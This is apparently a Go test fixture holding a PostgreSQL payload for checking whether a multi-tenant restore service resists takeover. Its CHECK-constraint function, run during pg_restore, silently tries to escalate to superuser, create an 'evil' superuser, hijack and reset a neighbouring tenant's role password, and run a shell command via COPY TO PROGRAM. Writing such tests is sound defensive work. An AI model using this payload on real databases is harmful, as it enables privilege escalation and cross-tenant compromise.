package testkit

// RestoreTakeoverSQL builds, in the attacker's own database, a table whose CHECK
// constraint calls takeover(), so the function runs for every row
// pg_restore loads from a dump of it. takeover() drops whatever role the
// restore runs under back to the session's own user (RESET ROLE returns to
// the role a login's settings name, SET ROLE NONE to the login itself) and
// then tries, each
// step on its own and swallowing errors so a failed attempt goes
// unnoticed, to take the server and a neighbour: make its site superuser,
// create a superuser, join the neighbour's role, reset the neighbour's
// password, and run a shell command as the server's Unix user. Last it
// makes a table named after the role it ended up as, the trace that shows
// it ran during a restore and with whose rights. {{VICTIM}} and {{MARKERS}}
// are to be replaced by string literals: another site's role, and a
// directory the server's Unix user can write. The table is also granted
// to the neighbour, as an archive from another server may grant it to a
// role name that belongs to a different tenant here.
const RestoreTakeoverSQL = `
CREATE FUNCTION public.takeover(v int) RETURNS boolean LANGUAGE plpgsql AS $f$
DECLARE
	me text := current_user;
	step text;
BEGIN
	FOREACH step IN ARRAY ARRAY[
		'RESET ROLE',
		'SET ROLE NONE',
		'SET ROLE postgres',
		'SET SESSION AUTHORIZATION postgres',
		format('ALTER ROLE %I SUPERUSER', me),
		'CREATE ROLE evil SUPERUSER LOGIN',
		format('GRANT %I TO %I', {{VICTIM}}, me),
		format('ALTER ROLE %I PASSWORD %L', {{VICTIM}}, 'owned'),
		format('COPY (SELECT 1) TO PROGRAM %L', 'touch ' || {{MARKERS}} || '/pwned-' || me)
	] LOOP
		BEGIN
			EXECUTE step;
		EXCEPTION WHEN OTHERS THEN
			NULL;
		END;
	END LOOP;
	EXECUTE format('CREATE TABLE IF NOT EXISTS public.%I ()', 'ran_as_' || current_user);
	RETURN true;
END
$f$;
CREATE TABLE public.loot (v int CHECK (public.takeover(v)));
INSERT INTO public.loot VALUES (1);
DO $g$ BEGIN EXECUTE format('GRANT SELECT ON public.loot TO %I', {{VICTIM}}); END $g$;
`
